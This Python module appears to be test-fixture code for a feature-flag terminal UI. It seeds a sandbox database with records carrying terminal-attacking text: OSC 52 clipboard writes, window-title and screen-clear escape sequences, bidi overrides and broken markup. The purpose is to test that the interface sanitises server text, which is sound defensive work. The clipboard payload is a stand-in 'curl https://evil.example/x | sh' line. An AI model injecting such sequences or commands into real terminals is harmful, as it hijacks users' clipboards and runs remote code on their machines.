"""The `hostile` project, added to the demo data by the sandbox's `hostile` size (what the tests
run on; `flagtui demo` leaves it out unless asked): every kind of record carries text that attacks a
terminal UI, stored as sent (like Unleash, which stores control characters and markup as given).

What is hostile: unbalanced and styled markup, a link whose text hides its target, OSC 52
(writes the clipboard), OSC 0 (renames the window), CSI sequences (clears the screen, colours),
a single-character C1 CSI, bidirectional overrides and isolates, zero-width characters,
2,000-character strings, emoji with ZWJ sequences, newlines and tabs.

Each string starts with a plain label (`hx-…`) so a test can find the record on screen, and
each control sequence is followed by a marker word, so the raw sequence followed by its marker
in a terminal's output stream can only have come from server text. Nothing here draws from the
demo generator's random numbers: the rest of the demo data is the same with or without it.
"""

from __future__ import annotations

import base64
import hashlib
import sqlite3
from datetime import datetime, timedelta
from typing import Any

from flagtui.sandbox.clock import iso
from flagtui.sandbox.db import dumps
from flagtui.sandbox.features import search_text

PROJECT = "hostile"
ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"
CLIPBOARD_TEXT = b"curl https://evil.example/x | sh"
OSC52 = f"{ESC}]52;c;{base64.b64encode(CLIPBOARD_TEXT).decode()}{ST}"
OSC0 = f"{ESC}]0;pwned{BEL}"
CSI_CLEAR = f"{ESC}[2J"
CSI_RED = f"{ESC}[31m"
C1_CSI = "\x9b"
RED_MARK = "HX-RED"
C1_MARK = "HX-C1"
BIDI = "\u202e\u2066\u2067\u2068\u202a\u202b\u202d"
BIDI_TEXT = f"{BIDI[0]}txt.exe{BIDI[1]}isolate\u2069\u202c"
ZERO_WIDTH = "a\u200bb\u200cc\u200dd\u2060e\ufefff"
EMOJI = "🚩 👩‍👩‍👧‍👦 🏳️‍🌈 🧑🏽‍💻"
MARKUP = "[/x] Data [/pipeline] [bold]BOLD[/bold] [link=https://evil.example]click[/link]"
LONG_LENGTH = 2000
WEBHOOK_URL = "https://hooks.evil.example/flags?token=hx-webhook-s3cret&team=ops"


def hostile(label: str, *, long: bool = False, lines: bool = True) -> str:
    """`label`, then every hostile kind; `long` pads to 2,000 characters; `lines` adds a
    newline and a tab (for single-line values such as names, leave them out)."""
    text = (
        f"{label} {MARKUP} {OSC52}{OSC0}{CSI_CLEAR}{CSI_RED}{RED_MARK} {C1_CSI}2J{C1_MARK}"
        f" {BIDI_TEXT} {ZERO_WIDTH} {EMOJI}"
    )
    if lines:
        text += "\nsecond line\tafter a tab [/x]"
    if long:
        filler = " [/x] Data [/pipeline] " + "0123456789" * 4
        text = (text + filler * (LONG_LENGTH // len(filler) + 1))[:LONG_LENGTH]
    return text


# Feature type: a known type whose name and description are hostile (the lifetime dialog).
FEATURE_TYPE = ("hx-type", hostile("hx-type-name", lines=False), hostile("hx-type-desc"), 30)
# Features: (name, type, description, tags). `[/x]` is no known type: real Unleash accepts
# a PATCH to any type, so a feature can carry one.
FEATURES = [
    (
        "hx-markup",
        "[/x]",
        hostile("hx-desc-markup"),
        [{"type": "simple", "value": MARKUP}, {"type": "[/x]", "value": "[bold]tag"}],
    ),
    ("hx-escapes", "hx-type", hostile("hx-desc-escapes"), [{"type": "simple", "value": OSC52}]),
    ("hx-long", "release", hostile("hx-desc-long", long=True), []),
    ("hx-bidi", "experiment", f"hx-desc-bidi {BIDI_TEXT} {ZERO_WIDTH} {EMOJI}", []),
    ("hx-plain", "release", "hx-desc-plain: a feature with no hostile text", []),
]
ENVIRONMENTS = ["development", "production"]
USERS = [  # (id offset, name, username, email)
    (0, hostile("hx-user-name", lines=False), "hx-user", "hx-user@evil.example"),
    (1, hostile("hx-user-long", long=True, lines=False), None, f"hx-long{OSC0}@evil.example"),
    (2, f"hx-user-bidi {BIDI_TEXT}", f"hx-{CSI_RED}{RED_MARK}", "hx-bidi@evil.example"),
]
STATES = ["failed", "successWithErrors", "success", "failed"]
# A variant of every strategy and of hx-escapes in each environment (the variants form).
VARIANT = {
    "name": "hx-variant",  # a name is URL-friendly: the client refuses any other
    "weight": 1000,
    "weightType": "variable",
    "stickiness": "default",
    "payload": {
        "type": "string",
        "value": f"hx-payload {OSC0}{CSI_CLEAR}{C1_CSI}{C1_MARK} {BIDI_TEXT}",
    },
}


class HostileData:
    """Adds the hostile project after the demo generator ran (ids follow the existing ones)."""

    def __init__(self, conn: sqlite3.Connection, now: datetime) -> None:
        self.conn = conn
        self.now = now

    def ago(self, hours: float) -> str:
        return iso(self.now - timedelta(hours=hours))

    def next_id(self, table: str) -> int:
        row = self.conn.execute(f"SELECT COALESCE(MAX(id), 0) + 1 FROM {table}").fetchone()
        return int(row[0])

    def run(self) -> None:
        self.users()
        self.project()
        self.features()
        self.change_requests()
        self.events_and_deliveries()

    def users(self) -> None:
        first = self.next_id("users")
        self.user_ids: list[int] = []
        self.usernames: list[str] = []
        for offset, name, username, email in USERS:
            uid = first + offset
            digest = hashlib.md5(email.encode(), usedforsecurity=False).hexdigest()
            self.conn.execute(
                "INSERT INTO users VALUES (?,?,?,?,?,?,?,?,?,?,?)",
                (
                    uid,
                    name,
                    email,
                    username,
                    f"https://gravatar.com/avatar/{digest}?s=42&d=retro",
                    3,
                    self.ago(400 + offset),
                    self.ago(2 + offset),
                    0,
                    1,
                    "User",
                ),
            )
            self.user_ids.append(uid)
            self.usernames.append(username or email)
        self.group_id = self.next_id("groups_")
        self.conn.execute(
            "INSERT INTO groups_ VALUES (?,?,?,?,?)",
            (
                self.group_id,
                hostile("hx-group", lines=False),
                hostile("hx-group-desc"),
                None,
                self.ago(500),
            ),
        )
        self.conn.executemany(
            "INSERT INTO group_users VALUES (?,?)", [(self.group_id, u) for u in self.user_ids]
        )

    def project(self) -> None:
        c = self.conn
        c.execute(
            "INSERT INTO projects VALUES (?,?,?,?,?,?,?)",
            (
                PROJECT,
                hostile("hx-project", lines=False),
                hostile("hx-project-desc"),
                self.ago(900),
                42,
                "open",
                0,
            ),
        )
        c.executemany(
            "INSERT INTO project_environments VALUES (?,?)", [(PROJECT, e) for e in ENVIRONMENTS]
        )
        c.executemany(
            "INSERT INTO project_user_roles VALUES (?,?,?)",
            [(PROJECT, uid, 4 if i == 0 else 5) for i, uid in enumerate(self.user_ids)],
        )
        c.execute("INSERT INTO project_group_roles VALUES (?,?,?)", (PROJECT, self.group_id, 5))
        c.execute("INSERT INTO feature_types VALUES (?,?,?,?)", FEATURE_TYPE)

    def features(self) -> None:
        rows, stages, settings, strategies = [], [], [], []
        creator = self.user_ids[0]
        for n, (name, type_, description, tags) in enumerate(FEATURES):
            created = self.ago(300 - n)
            rows.append(
                (
                    name,
                    PROJECT,
                    type_,
                    description,
                    0,
                    0,
                    0,
                    0,
                    created,
                    creator,
                    None,
                    self.ago(1),
                    "live",
                    self.ago(100 - n),
                    dumps(tags),
                    search_text(name, description, tags),
                    None,
                    None,
                    dumps(self.user_ids),
                )
            )
            stages.append((name, "initial", created, None, None))
            stages.append((name, "live", self.ago(100 - n), None, None))
            for env in ENVIRONMENTS:
                variants = dumps([VARIANT]) if name == "hx-escapes" else "[]"
                settings.append((name, env, int(env == "development"), self.ago(1), variants))
                strategies.append(self._strategy(name, env))
        c = self.conn
        c.executemany(f"INSERT INTO features VALUES ({','.join('?' * 19)})", rows)
        c.executemany(
            "INSERT INTO lifecycle_stages (feature, stage, entered_at, status, status_value)"
            " VALUES (?,?,?,?,?)",
            stages,
        )
        c.executemany("INSERT INTO feature_environments VALUES (?,?,?,?,?)", settings)
        c.executemany(f"INSERT INTO strategies VALUES ({','.join('?' * 11)})", strategies)

    @staticmethod
    def _strategy(feature: str, env: str) -> tuple[Any, ...]:
        constraint = {
            "contextName": "userId",
            "operator": "IN",
            "caseInsensitive": False,
            "inverted": False,
            "values": [MARKUP, OSC52, BIDI_TEXT],
            "value": "",
        }
        return (
            f"hx-{feature}-{env}",
            feature,
            env,
            "flexibleRollout",
            hostile("hx-strategy", lines=False),
            0,
            0,
            dumps({"rollout": "50", "stickiness": "default", "groupId": hostile("hx-param")}),
            dumps([constraint]),
            "[]",
            dumps([VARIANT]),
        )

    def who(self, index: int) -> dict[str, Any]:
        return {
            "id": self.user_ids[index],
            "username": self.usernames[index],
            "imageUrl": "https://gravatar.com/avatar/0?s=42&d=retro",
        }

    def change_requests(self) -> None:
        first = self.next_id("change_requests")
        rows = []
        for k, state in enumerate(["In review", "Approved", "Draft"]):
            change = {
                "id": 9000 + k,
                "action": "updateEnabled",
                "payload": {"enabled": True, "note": hostile("hx-cr-payload")},
                "createdAt": self.ago(30 - k),
                "createdBy": self.who(k),
            }
            comments = [
                {
                    "id": 90000 + k,
                    "text": hostile("hx-cr-comment", long=k == 1),
                    "createdAt": self.ago(29 - k),
                    "createdBy": self.who((k + 1) % len(self.user_ids)),
                }
            ]
            rows.append(
                (
                    first + k,
                    PROJECT,
                    "production",
                    hostile(f"hx-cr-title-{k}", long=k == 1, lines=k != 0),
                    state,
                    self.ago(30 - k),
                    self.user_ids[k],
                    1,
                    dumps([{"name": FEATURES[k][0], "changes": [change]}]),
                    "[]",
                    "[]",
                    dumps(comments),
                    None,
                )
            )
        self.conn.executemany(f"INSERT INTO change_requests VALUES ({','.join('?' * 13)})", rows)

    def addon(self) -> int:
        addon_id = self.next_id("addons")
        parameters = {
            "url": WEBHOOK_URL,
            "contentType": hostile("hx-param-content-type", lines=False),
            "authorization": f"Bearer hx-secret{OSC52}",
            "bodyTemplate": hostile("hx-param-body"),
        }
        self.conn.execute(
            f"INSERT INTO addons VALUES ({','.join('?' * 10)})",
            (
                addon_id,
                "webhook",
                hostile("hx-addon", lines=False),
                1,
                dumps(["feature-created", "feature-metadata-updated", "feature-tagged"]),
                dumps([PROJECT]),
                "[]",
                dumps(parameters),
                self.ago(2000),
                "flaky-endpoint",
            ),
        )
        return addon_id

    def events_and_deliveries(self) -> None:
        addon_id = self.addon()
        first = self.next_id("events")
        events, deliveries = [], []
        kinds = [
            ("feature-created", {"name": "hx-markup", "description": hostile("hx-event-data")}),
            ("feature-metadata-updated", {"description": hostile("hx-event-long", long=True)}),
            ("feature-tagged", {"type": "[/x]", "value": hostile("hx-event-tag", lines=False)}),
            ("feature-metadata-updated", {"description": f"hx-event-bidi {BIDI_TEXT} {EMOJI}"}),
        ]
        for k, (type_, data) in enumerate(kinds):
            eid, when = first + k, self.ago((4 - k) / 60)  # the newest events and deliveries
            feature, user = FEATURES[k][0], k % len(self.user_ids)
            pre = {"description": hostile("hx-event-predata")} if "updated" in type_ else None
            record = {
                "id": eid,
                "createdAt": when,
                "type": type_,
                "createdBy": self.usernames[user],
                "createdByUserId": self.user_ids[user],
                "environment": None,
                "project": PROJECT,
                "featureName": feature,
                "data": data,
                "preData": pre,
                "tags": [],
            }
            events.append(
                (
                    eid,
                    when,
                    type_,
                    self.usernames[user],
                    self.user_ids[user],
                    PROJECT,
                    feature,
                    None,
                    dumps(data),
                    None if pre is None else dumps(pre),
                    "[]",
                )
            )
            details = {"message": hostile("hx-delivery-message"), "url": WEBHOOK_URL}
            state_details = hostile(f"hx-state-{STATES[k]}", long=k == 3)
            deliveries.append(
                (addon_id, when, STATES[k], state_details, dumps(record), dumps(details))
            )
        self.conn.executemany(f"INSERT INTO events VALUES ({','.join('?' * 11)})", events)
        self.conn.executemany(
            "INSERT INTO integration_events (addon_id, created_at, state, state_details, event,"
            " details) VALUES (?,?,?,?,?,?)",
            deliveries,
        )


def add_hostile_project(conn: sqlite3.Connection, now: datetime) -> None:
    HostileData(conn, now).run()
